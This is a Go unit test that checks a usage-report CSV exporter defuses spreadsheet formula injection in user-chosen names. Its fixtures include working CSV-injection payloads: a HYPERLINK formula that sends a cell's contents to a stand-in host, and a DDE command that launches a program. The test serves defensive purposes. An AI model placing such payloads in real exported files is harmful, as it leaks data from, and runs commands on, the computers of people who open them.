package sync

import (
	"bytes"
	"encoding/csv"
	"testing"

	"bookbag/backend/syncproto"
)

// Names members and workspace admins choose reach the admin's spreadsheet;
// a cell that starts like a formula must be read as text, and a plain name
// (or a number column) must stay as it was.
func TestUsageCSVNeutralisesFormulas(t *testing.T) {
	rep := syncproto.UsageReport{Rows: []syncproto.UsageRow{
		{Day: "2026-12-01", Email: "@mallory@example.com", DisplayName: `=HYPERLINK("http://x.example/?"&A1,"pay")`,
			WorkspaceID: "w1", Model: "+cmd|' /C calc'!A0", Calls: 1, CostMicros: 1},
		{Day: "2026-12-02", Email: "ann@example.com", DisplayName: " -2+3", WorkspaceID: "w2", Model: "\t=1+1", Calls: 2},
		{Day: "2026-12-03", Email: "bob@example.com", DisplayName: "Bob = boss, \"B\"", WorkspaceID: "w3", Model: "openai:gpt-4o", Calls: 3},
	}}
	names := map[string]string{"w1": "@SUM(1)", "w2": "Office", "w3": "Team-A"}
	var b bytes.Buffer
	if err := WriteUsageCSV(&b, rep, func(id string) string { return names[id] }); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"2026-12-01", "'@mallory@example.com", `'=HYPERLINK("http://x.example/?"&A1,"pay")`, "w1", "'@SUM(1)", "'+cmd|' /C calc'!A0", "1", "0", "0", "0", "0.000001"},
		{"2026-12-02", "ann@example.com", "' -2+3", "w2", "Office", "'\t=1+1", "2", "0", "0", "0", "0.000000"},
		{"2026-12-03", "bob@example.com", "Bob = boss, \"B\"", "w3", "Team-A", "openai:gpt-4o", "3", "0", "0", "0", "0.000000"},
	}
	if len(recs) != len(want)+1 {
		t.Fatalf("%d records: %q", len(recs), recs)
	}
	for i, w := range want {
		got := recs[i+1]
		for j := range w {
			if got[j] != w[j] {
				t.Errorf("row %d column %s: %q, want %q", i, recs[0][j], got[j], w[j])
			}
		}
	}
}
